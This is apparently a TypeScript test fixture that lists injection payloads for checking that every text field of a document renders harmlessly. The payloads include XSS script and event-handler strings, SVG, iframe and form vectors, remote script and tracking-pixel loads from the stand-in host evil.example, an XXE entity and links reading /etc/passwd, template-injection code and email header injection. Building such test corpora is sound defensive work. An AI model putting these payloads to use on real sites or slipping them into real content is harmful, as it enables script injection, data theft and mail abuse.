/**
 * Texts that try to be more than text, for every field that a document carries. Whatever would run sets `__pwned`, whatever
 * would be fetched or opened is at evil.example: a test looks for both.
 */

const run = '__pwned=1'
const far = 'https://evil.example'

const scripts = [
  `<script>${run}</script>`, `"><script>${run}</script>`, `'><script>${run}</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<script src=${far}/x.js></script>`,
  `<script>${run}//`, `</script><script>${run}</script>`, `<scr<script>ipt>${run}</script>`, `<script\t>${run}</script>`, `<script type=module>${run}</script>`, `<script/x>${run}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `</title><script>${run}</script>`, `</style><script>${run}</script>`, `</textarea><script>${run}</script>`,
  `<template><script>${run}</script></template>`, `<script>/*</script><img src=x onerror=${run}>*/`,
]
const handlers = [
  `<img src=x onerror=${run}>`, `"><img src=x onerror=${run}>`, `'><img src=x onerror='${run}'>`, `<img src="x" onerror="${run}"`, `<img/src=x/onerror=${run}>`, `<img src=x:x onerror\u000b=${run}>`,
  `" onerror="${run}" x="`, `' onmouseover='${run}' x='`, `" onload=${run} "`, `\` onerror=${run} \``, `<body onload=${run}>`, `<input autofocus onfocus=${run}>`, `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}>`, `<audio src=x onerror=${run}>`, `<marquee onstart=${run}>`, `<b onclick=${run}>x</b>`, `<div onpointerenter=${run}>x`, `<img srcset="x 1x" onerror=${run}>`,
  `<p style=animation-name:x onanimationstart=${run}>`, `<select autofocus onfocus=${run}>`, `<x contenteditable onblur=${run} tabindex=1 autofocus>`,
]
const vector = [
  `<svg onload=${run}>`, `<svg><script>${run}</script></svg>`, `<svg/onload=${run}//`, `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`, `<svg><use href="${far}/x.svg#a">`,
  `<svg><image href="${far}/x.png">`, `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><style>@import '${far}'</style></svg>`,
  `<math><mi//xlink:href="javascript:${run}">x`, `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`, `<svg></p><style><a title="</style><img src=x onerror=${run}>">`,
]
const embedding = [
  `<iframe src="javascript:${run}">`, `<iframe srcdoc="<script>parent.${run}</script>">`, `<iframe src=${far}>`, `<object data="${far}/x">`, `<embed src="${far}/x">`, `<object data="javascript:${run}">`,
  `<frameset><frame src=${far}>`, `<applet code=x>`, `<portal src=${far}>`, `<fencedframe src=${far}>`, `<video src=${far}/v.mp4 autoplay>`, `<audio src=${far}/a.mp3 autoplay>`, `<track src=${far}/t.vtt>`,
]
const pictures = [
  `<img src="${far}/pixel.png">`, `<img src=//evil.example/pixel.png>`, `<img srcset="${far}/pixel.png 2x">`, `<picture><source srcset=${far}/p.png><img></picture>`, `<input type=image src=${far}/p.png>`,
  `<table background=${far}/p.png>`, `<td background="${far}/p.png">`, `<body background=${far}/p.png>`, `<img src="cid:qr@sheet">`, `<img src="data:image/png;base64,AAAA">`, `<image src=${far}/p.png>`, `<img lowsrc=${far}/p.png>`,
  `<img dynsrc=${far}/p.png>`, `<v:imagedata src="${far}/p.png">`, `cid:qr@sheet`,
]
const styles = [
  `<style>*{display:none}</style>`, `<style>@import url(${far});</style>`, `<link rel=stylesheet href=${far}/x.css>`, `<p style="background:url(${far}/p.png)">`, `" style="background:url(${far}/p.png)`, `;background:url(${far}/p.png)`,
  `red;}*{display:none}`, `<div style="position:fixed;inset:0">x`, `<p style="width:expression(${run})">`, `<style>@font-face{src:url(${far}/f)}</style>`, `</style><style>body{color:#ffffff}`, `/*`, `*/}body{display:none}/*`,
]
const documents = [
  `<meta http-equiv=refresh content="0;url=${far}">`, `<meta http-equiv="Set-Cookie" content="x">`, `<meta charset=utf-7>`, `+ADw-script+AD4-${run}+ADw-/script+AD4-`, `<base href="${far}/">`, `<base target=_blank>`, `<title>x</title>`, `</title>`, `</body></html><p>x`,
  `<html manifest=${far}>`, `<!doctype html><html><body>`, `</div></td></tr></table><h1>x`, `<table><tr><td>`, `</p></div>`, `<ol><li>`, `<h1>`, `<plaintext>`, `<xmp>`, `<listing>`, `<textarea>`, `<select><option>`, `<frameset>`, `<template>`, `<dialog open>x`,
  `<link rel=prefetch href=${far}>`, `<link rel=preconnect href=${far}>`, `<link rel=dns-prefetch href=//evil.example>`,
]
const forms = [
  `<form action=${far}><input name=x>`, `<button formaction="javascript:${run}">x</button>`, `<input type=submit formaction=${far}>`, `<input name=getElementById>`, `<form id=x><input name=attributes>`, `<keygen autofocus onfocus=${run}>`, `<isindex type=image src=1 onerror=${run}>`,
]
const links = [
  `<a href="javascript:${run}">x</a>`, `<a href=${far}>x</a>`, `<a href="data:text/html,<script>${run}</script>">x</a>`, `<a href="vbscript:${run}">x</a>`, `<a href=&#106;avascript:${run}>x</a>`, `<a href="java\tscript:${run}">x</a>`, `<a ping=${far} href=#>x</a>`,
  `javascript:${run}`, `JaVaScRiPt:${run}`, `data:text/html;base64,PHNjcmlwdD4=`, `//evil.example`, `${far}/"><b>`, `file:///etc/passwd`, `<area href=${far}>`, `<map name=x><area href=javascript:${run}>`, `[x](javascript:${run})`, `LPA:1$evil.example$X`,
]
const entitiesAndComments = [
  `&lt;script&gt;${run}&lt;/script&gt;`, `&#60;b&#62;`, `&#x3c;b&#x3e;`, `&lt`, `&amp;lt;b&amp;gt;`, `&notanentity;`, `&#0;`, `&#x110000;`, `&quot;&gt;<b>`, `&`, `<!-- x`, `-->`, `--><b>x</b>`, `<!--><b>`, `<!--[if mso]><b>x</b><![endif]-->`,
  `<![if !mso]><b>x</b><![endif]>`, `<![CDATA[<b>x</b>]]>`, `]]><b>x</b>`, `<?xml version="1.0"?>`, `<?php echo 1 ?>`, `<!ENTITY x SYSTEM "file:///etc/passwd">`, `<o:p>x</o:p>`, `<%= 7*7 %>`, `<#assign x=1>`,
]
const unclosed = ['<', '>', '</', '<b', '<b ', '<b x="', "<b x='", '"', "'", '`', '">', "'>", '<>', '</>', '<1>', '< b>', '\\"><b>', '<b><i></b></i>', '<b/>']
const templates = [
  '{{7*7}}', '{{constructor.constructor("__pwned=1")()}}', '${7*7}', '@:installation.title', '@:{common.close}', "{'x'}", '{0}', '{length}', '{date}', '%s', '%{x}', '$&', '$1', "$'", '$`', '{to}|{to}', 'v-html="x"', ':src="x"', '@click="x"', '#{7*7}', '[[x]]',
]
const characters = [
  '\u202eevil', '\u202aevil\u202c', '\u2066evil', '\u2069\u2069\u2069', '\u200f\u200fevil', '\u0000<b>', '\u0000', '\u0007\u0008\u001b[31m', '\u000b\u000c', '\u2028<b>', '\u2029', '\u00ad\u200b\u2060', '\ufeff<b>', '\ufffe\uffff', '\ud800', '\udc00<b>',
  'e\u0301\u0302\u0303'.repeat(12), '\u1160\u3164', '\u{e0041}\u{e0042}', '😀'.repeat(20), '＜script＞', '‹b›', '\u02c2b\u02c3', 'مرحبا <b>', 'ﷺ'.repeat(12), '\u0085', '\u007f\u009b',
]
const mails = [
  '\r\nBcc: eve@evil.example', '\nContent-Type: text/html\n\n<b>', '=?utf-8?Q?=3Cb=3E?=', '=3Cb=3E', '--=_boundary', '----_NmP-1-Part_1', '\r\n.\r\n', '\n.\nMAIL FROM:<eve@evil.example>', 'begin 644 x', '=\r\n', '=00', 'Content-Transfer-Encoding: base64',
  '\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<b>', '<x@evil.example>', '"><x@evil.example>', 'From eve', '. ', '..',
]
const long = ['W'.repeat(400), '<b>'.repeat(130), '"'.repeat(400), 'ﷺ'.repeat(130), '字'.repeat(400), `<img src=x onerror=${run}>`.repeat(14), 'a '.repeat(200), '\n'.repeat(400)]

export const payloads: readonly string[] = [
  ...scripts, ...handlers, ...vector, ...embedding, ...pictures, ...styles, ...documents, ...forms, ...links, ...entitiesAndComments, ...unclosed, ...templates, ...characters, ...mails, ...long,
]

/** As long, with line breaks and controls in the same places, and nothing in it that means anything. */
export const harmless = (payload: string): string => payload.replaceAll(/[^\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}\p{Zs}]/gu, 'x')
